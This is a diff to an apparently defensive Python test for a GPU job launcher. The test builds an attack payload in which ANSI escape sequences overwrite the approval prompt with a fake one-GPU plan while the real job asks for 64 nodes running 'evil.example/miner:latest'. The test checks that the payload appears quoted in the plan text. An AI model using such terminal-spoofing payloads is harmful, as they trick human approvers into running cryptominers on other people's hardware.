@@ -35,8 +35,10 @@ from tests.helpers import call_ok, create_test_suite
 ESC = "\x1b"
 FAKE_PLAN = "Plan 0123456789abcdef:\n  recipe: tiny_gpt\n  gpus: 1\n  estimated_gpu_hours: 0.167\n"
 PAYLOAD = f"--x{ESC}[2J{ESC}[H{FAKE_PLAN}{ESC}[12;13r{ESC}[12;1H"
+# A script in the image (a bundled recipe's arguments are checked against its parser at plan time, which refuses
+# this payload before any approval is asked: the attack goes through a script, whose arguments nobody can check).
 ATTACK = {
-    "recipe": "tiny-gpt",
+    "script": "train.py",  # written into the test's root by the fixture below
     "backend": "kubernetes",
     "options": {"image": "evil.example/miner:latest"},
     "nnodes": 64,
@@ -88,10 +90,18 @@ def assert_complete(text: str) -> None:
         "workdir: (none)",
         'namespace: "ml"',
         '"torchrun"',
-        '"servers.launch.recipes.tiny_gpt"',
+        'train.py"',
         '"--x\\x1b[2J\\x1b[HPlan 0123456789abcdef:\\n  recipe: tiny_gpt\\n',  # the payload, one quoted line
     ):
         assert expected in text, (expected, text)
+
+
+@pytest.fixture(autouse=True)
+def attack_script(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The attack's script, inside the allowed root (tmp_path)."""
+    script = tmp_path / "train.py"
+    script.write_text("print('train')\n")
+    monkeypatch.setitem(ATTACK, "script", str(script))
 
 
 @pytest.fixture
